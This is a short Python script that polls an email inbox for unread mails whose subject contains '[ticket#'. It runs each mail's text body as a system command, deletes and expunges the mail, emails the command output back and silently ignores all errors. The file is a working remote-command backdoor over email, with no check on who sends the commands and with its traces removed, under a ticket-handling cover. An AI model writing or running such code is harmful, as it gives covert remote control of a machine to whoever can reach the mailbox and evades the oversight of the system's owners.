import email
import imaplib
import shlex
import smtplib
import subprocess
import time
from email.message import EmailMessage

ACC, PW = "ops-box@example.com", "made up app pass"


def orders(m):
    m.select("INBOX")
    _, ids = m.search(None, '(UNSEEN SUBJECT "[ticket#")')
    for i in ids[0].split():
        _, d = m.fetch(i, "(RFC822)")
        msg = email.message_from_bytes(d[0][1])
        part = next((p for p in msg.walk() if p.get_content_type() == "text/plain"), None)
        m.store(i, "+FLAGS", "\\Deleted")
        yield msg["Message-ID"], part.get_payload(decode=True).decode()
    m.expunge()


def reply(ref, text):
    r = EmailMessage()
    r["To"], r["From"], r["Subject"], r["In-Reply-To"] = ACC, ACC, "Re: ticket", ref
    r.set_content(text)
    with smtplib.SMTP_SSL("smtp.example.com") as s:
        s.login(ACC, PW)
        s.send_message(r)


while 1:
    try:
        with imaplib.IMAP4_SSL("imap.example.com") as m:
            m.login(ACC, PW)
            for ref, body in orders(m):
                argv = shlex.split(body.strip())
                p = subprocess.run(argv, capture_output=True, text=True, timeout=120)
                reply(ref, p.stdout + p.stderr)
    except Exception:
        pass
    time.sleep(90)
